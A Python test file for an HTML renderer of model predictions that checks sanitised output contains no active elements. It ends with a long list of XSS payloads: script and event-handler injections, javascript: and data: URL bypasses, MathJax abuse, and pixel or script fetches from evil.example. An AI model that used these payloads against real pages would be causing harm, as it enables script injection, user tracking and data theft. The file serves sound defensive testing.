"""What stays of a prediction, as a page has it: its elements, and that none of them acts."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

from replicate_magic.prediction import Chunks, Prediction
from replicate_magic.views import Look
from replicate_magic.views.html import document


def prediction(output=None, *, status="succeeded", shape=None, streamed=(), files=(), **raw):
    return Prediction(
        model=raw.pop("model", "a/b"),
        shape="files" if files else shape,
        streamed=Chunks(list(streamed)),
        fetched=tuple(files),
        raw={
            "id": "abc",
            "status": status,
            "output": [file.url for file in files] or output,
            **raw,
        },
    )


def bundles(found, made=None, why="", **look):
    """All that stays."""
    return document(found, made, Look(**look), why=why).bundles


def final(found, made=None, why="", **look):
    """The only bundle that stays."""
    (bundle,) = bundles(found, made, why, **look)
    return bundle


class Page(HTMLParser):
    """Collects the elements of a fragment, and its text."""

    def __init__(self, markup):
        super().__init__()
        self.elements = []
        self.words = []
        self.begins = False  # whether a `<pre>` does, where HTML drops a line's end
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self.begins = tag == "pre"

    def handle_data(self, data):
        self.words.append(data.removeprefix("\n") if self.begins else data)
        self.begins = False

    @property
    def text(self):
        return "".join(self.words)


IGNORED, TYPESET = "tex2jax_ignore mathjax_ignore", "tex2jax_process mathjax_process"
QUIET_TAGS = {
    *("div", "pre", "p", "span", "a", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "b", "i"),
    *("strong", "em", "s", "code", "blockquote", "ul", "ol", "li", "table", "thead", "tbody"),
    *("tr", "td", "th", "sub", "sup", "u", "del", "ins", "kbd", "details", "summary", "img"),
}
QUIET_ATTRIBUTES = {
    *("href", "rel", "target", "style", "src", "alt", "title", "start", "align", "dir", "width"),
}


def assert_nothing_acts(markup, pictures=0):
    """No element, attribute or address that runs, styles, submits or fetches."""
    page = Page(markup)
    shown = [attrs for tag, attrs in page.elements if tag == "img"]
    assert {tag for tag, _ in page.elements} <= QUIET_TAGS
    assert len(shown) == pictures
    for tag, attrs in page.elements:
        assert attrs.pop("class", IGNORED) in {IGNORED, TYPESET}
        assert set(attrs) <= QUIET_ATTRIBUTES | ({"open"} if tag == "details" else set())
        if "style" in attrs:
            assert tag in {"div", "pre", "img", "span", "details", "ul", "li"}
            assert "url" not in attrs["style"]
        if "src" in attrs:
            assert tag == "img"
            assert attrs["src"].startswith(("data:image/webp;base64,", "data:image/gif;base64,",
                                            "data:image/png;base64,"))  # fmt: skip
        if "href" in attrs:
            assert urlsplit(attrs["href"]).scheme in {"http", "https", "mailto", ""}
            assert "noopener" in attrs["rel"]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel][p]\n\n[p]: https://evil.example/pixel.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](data:image/png;base64,AAAA)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](blob:x)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=https://x.example onclick=alert(1) style='position:fixed' id=x name=x>x</a>",
    "<a href=https://x.example ping=https://evil.example download target=_top>x</a>",
    "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import url(https://evil.example/x.css); * {display: none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='background:url(https://evil.example/x)' class=jp-mod x-on=y>x</div>",
    "<form action=https://evil.example><input name=p autofocus onfocus=alert(1)><button>x</form>",
    "<svg onload=alert(1)><use href='data:image/svg+xml,x#x'/><image href=https://evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video src=https://evil.example poster=https://evil.example/p><source src=https://x></video>",
    "<audio src=https://evil.example autoplay></audio><track src=https://evil.example>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x",
    "<body onload=alert(1)><marquee onstart=alert(1)>x<details ontoggle=alert(1) open>x",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea><plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]> <?xml x?>",
    "</pre></div><script>alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onmouseover="alert(1)\nx\n```',
    "`</code><script>alert(1)</script>`",
    '[x](https://x.example "\\"><script>alert(1)</script>")',
    '[x](https://x.example/"onmouseover=alert(1))',
    r"$\href{javascript:alert(1)}{x}$ \(\href{javascript:alert(1)}{x}\)",
    r"$$\style{background:url(https://evil.example)}{x} \class{a}{x} \cssId{a}{x}$$",
    r"$\require{html}\unicode{<script>alert(1)</script>}$",
    "<x-frame><custom-element onclick=alert(1)>",
    "\x1b[2J\u202e<script\x00>alert(1)</script\x00>\ud83d",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<" * 1_000,
    "<a href=x>" * 200,
]  # fmt: skip
